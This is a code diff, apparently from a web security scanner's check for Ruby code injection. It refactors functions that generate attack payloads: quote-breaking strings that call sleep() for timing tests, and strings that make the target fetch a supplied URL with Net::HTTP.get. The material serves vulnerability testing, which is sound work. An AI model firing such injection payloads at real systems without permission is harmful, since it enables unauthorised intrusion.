@@ -1,6 +1,6 @@
 import { pageOf } from '@rocca/tools/web/scope';
 import { cweReference, scored } from '../../core/definition.ts';
-import { actionAsks, actionWaits, askingScript, isActionValue, provingAction } from '../attack/action-values.ts';
+import { actionAsks, actionWaits, provingAction, askingScript as script } from '../attack/action-values.ts';
 import { callsFunction } from '../attack/called-functions.ts';
 import { encodedAsAsked } from '../attack/encoded-as-asked.ts';
 import { newDatabaseError } from '../attack/error-texts.ts';
@@ -409,7 +409,7 @@ async function waitsOf(trial: Trial): Promise<ReadonlyArray<(seconds: number) =>
         ]
       : []),
     ...(isQuoted ? ["'", '"'].map((quote) => (n: number) => `${value}${quote}.sleep(${n}).${quote}`) : []),
-    ...(isActionValue(trial) ? actionWaits(trial) : []),
+    ...actionWaits(trial),
   ];
 }
 
@@ -431,18 +431,12 @@ async function askingCodes(trial: Trial): Promise<ReadonlyArray<(url: string) =>
   const { value } = trial.point;
   const { isBare, isQuoted } = await readingOf(trial);
   return [
-    ...(isActionValue(trial) ? actionAsks(trial) : []),
+    ...actionAsks(trial),
     ...(isBare
-      ? [
-          (url: string) => askingScript(url, "'"),
-          (url: string) => `require('net/http')||1;Net::HTTP.get(URI('${url}'))`,
-        ]
+      ? [(url: string) => script(url, "'"), (url: string) => `require('net/http')||1;Net::HTTP.get(URI('${url}'))`]
       : []),
     ...(isQuoted
-      ? [
-          (url: string) => `${value}'+${askingScript(url, '"')}+'`,
-          (url: string) => `${value}"+${askingScript(url, "'")}+"`,
-        ]
+      ? [(url: string) => `${value}'+${script(url, '"')}+'`, (url: string) => `${value}"+${script(url, "'")}+"`]
       : []),
   ];
 }
